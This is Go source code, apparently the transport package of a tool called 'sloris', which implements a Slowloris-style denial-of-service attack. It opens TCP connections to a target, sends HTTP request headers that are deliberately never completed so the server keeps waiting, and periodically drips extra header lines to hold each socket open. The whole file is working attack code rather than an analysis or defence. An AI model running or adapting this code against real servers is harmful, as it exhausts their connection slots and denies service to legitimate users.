// Package transport provides the outbound TCP side of sloris: dialing the
// target with a bounded connect, writing the partial request opener,
// trickling keep-alive header lines and probing held sockets for liveness.
//
// No response bytes are ever consumed.
package transport

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net"
	"strconv"
	"time"

	apperrors "github.com/go-i2p/sloris/lib/errors"
)

// DefaultConnectTimeout bounds every connect attempt.
const DefaultConnectTimeout = 2 * time.Second

// RequestLine returns the partial request written once per admitted connection.
// The header block is never terminated, so the server keeps waiting for more.
func RequestLine(host string) []byte {
	return []byte(fmt.Sprintf("GET /?%d HTTP/1.1\r\nHost: %s\r\n", rand.IntN(2000), host))
}

// DripLine returns one syntactically harmless header line.
func DripLine() []byte {
	return []byte(fmt.Sprintf("X-a: %d\r\n", rand.IntN(5000)+1))
}

// Dialer opens connections to one target.
type Dialer struct {
	// Host is the target host name or address. It is also sent as the
	// Host header.
	Host string
	// IP, when set, is dialed instead of resolving Host on every attempt.
	IP string
	// Port is the target TCP port.
	Port uint16
	// ConnectTimeout bounds the TCP handshake.
	// Default: 2 seconds
	ConnectTimeout time.Duration
}

// NewDialer creates a Dialer for host:port with the default connect timeout.
func NewDialer(host string, port uint16) *Dialer {
	return &Dialer{
		Host:           host,
		Port:           port,
		ConnectTimeout: DefaultConnectTimeout,
	}
}

// Address returns the host:port string dialed by d.
func (d *Dialer) Address() string {
	host := d.Host
	if d.IP != "" {
		host = d.IP
	}
	return net.JoinHostPort(host, strconv.Itoa(int(d.Port)))
}

// Dial connects to the target and writes the request opener. Any failure,
// including a failed opener write, is returned wrapped in errors.ErrConnection
// and leaves no socket open.
func (d *Dialer) Dial(ctx context.Context) (*Conn, error) {
	timeout := d.ConnectTimeout
	if timeout <= 0 {
		timeout = DefaultConnectTimeout
	}

	addr := d.Address()
	nd := net.Dialer{Timeout: timeout}
	nc, err := nd.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("dialing %s: %w: %w", addr, apperrors.ErrConnection, err)
	}

	c := &Conn{nc: nc, addr: addr}
	if err := c.writeAll(RequestLine(d.Host)); err != nil {
		c.Close()
		return nil, fmt.Errorf("writing request line: %w", err)
	}

	log.WithField("addr", addr).Debug("connection opened")
	return c, nil
}

// Conn is one held outbound connection.
type Conn struct {
	nc   net.Conn
	addr string
}

// Drip writes one keep-alive header line. A partial write or an I/O error
// means the connection is dead.
func (c *Conn) Drip() error {
	return c.writeAll(DripLine())
}

// Probe checks whether the peer is still there without sending payload
// bytes or consuming received ones.
func (c *Conn) Probe() error {
	return probe(c.nc)
}

// Close shuts down both directions and releases the socket.
// Errors from the half-closes are ignored.
func (c *Conn) Close() error {
	if tc, ok := c.nc.(*net.TCPConn); ok {
		_ = tc.CloseRead()
		_ = tc.CloseWrite()
	}
	return c.nc.Close()
}

func (c *Conn) writeAll(p []byte) error {
	n, err := c.nc.Write(p)
	if err != nil {
		return fmt.Errorf("write to %s: %w: %w", c.addr, apperrors.ErrConnection, err)
	}
	if n < len(p) {
		return fmt.Errorf("write to %s: %w (%d of %d bytes)", c.addr, apperrors.ErrShortWrite, n, len(p))
	}
	return nil
}
